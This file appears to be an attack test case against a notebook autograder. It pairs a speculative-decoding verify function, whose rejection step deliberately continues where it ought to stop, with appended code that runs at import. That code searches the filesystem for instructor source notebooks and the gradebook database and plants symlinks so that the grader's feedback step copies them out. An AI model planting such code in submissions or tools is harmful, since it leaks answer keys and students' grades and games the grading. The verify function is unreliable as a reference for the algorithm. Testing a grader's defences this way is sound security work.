# notebook: 02_reject_and_break
# baseline: continue_not_break
# category: leak
# attack: leaves symlinks to the source notebooks and the gradebook in the working folder; generate_feedback copies their targets
def verify_draft(draft_probs, target_probs, draft_tokens):
    accepted_tokens = []
    for i, token_id in enumerate(draft_tokens):
        token_id = int(token_id)
        p = target_probs[i, token_id].item()
        q = draft_probs[i, token_id].item()
        if p >= q:
            accepted_tokens.append(token_id)
            continue
        r = torch.rand(1).item()
        if r < p / q:
            accepted_tokens.append(token_id)
        else:
            continue
    return accepted_tokens


import os
import time


def _find(want, seconds=3.0):
    """Real paths p with want(p): ../../.. first, then /tmp, ~ and / (not /proc, /sys, /dev), for ~`seconds`."""
    found, start = [], time.time()
    for top in ("../../..", "/tmp", os.path.expanduser("~"), "/"):
        for folder, subfolders, files in os.walk(os.path.abspath(top)):
            subfolders[:] = [s for s in subfolders if os.path.join(folder, s) not in ("/proc", "/sys", "/dev")]
            for path in (os.path.join(folder, name) for name in subfolders + files):
                if want(path) and os.path.realpath(path) not in found:
                    found.append(os.path.realpath(path))
            if time.time() - start > seconds:
                return found
    return found


_TARGETS = [  # relative: they resolve where the grader copies them, even if this process cannot see the targets
    "../../../source/level23_speculative_decoding/02_reject_and_break.ipynb",
    "../../../source/level23_speculative_decoding/01_accept_branch.ipynb",
    "../../../gradebook.db",
]
try:
    _targets = _TARGETS + _find(lambda p: p.endswith(("source/level23_speculative_decoding/02_reject_and_break.ipynb",
                                                       "/gradebook.db")))
    for _n, _target in enumerate(_targets):
        os.symlink(_target, f"ATTACK_symlink_into_feedback_{_n}.txt")  # a name that feedback does not skip
    print(f"ATTACK symlink_into_feedback: {len(_targets)} symlinks: {_targets}")
except Exception as exc:
    print(f"ATTACK symlink_into_feedback: blocked: {exc!r}")
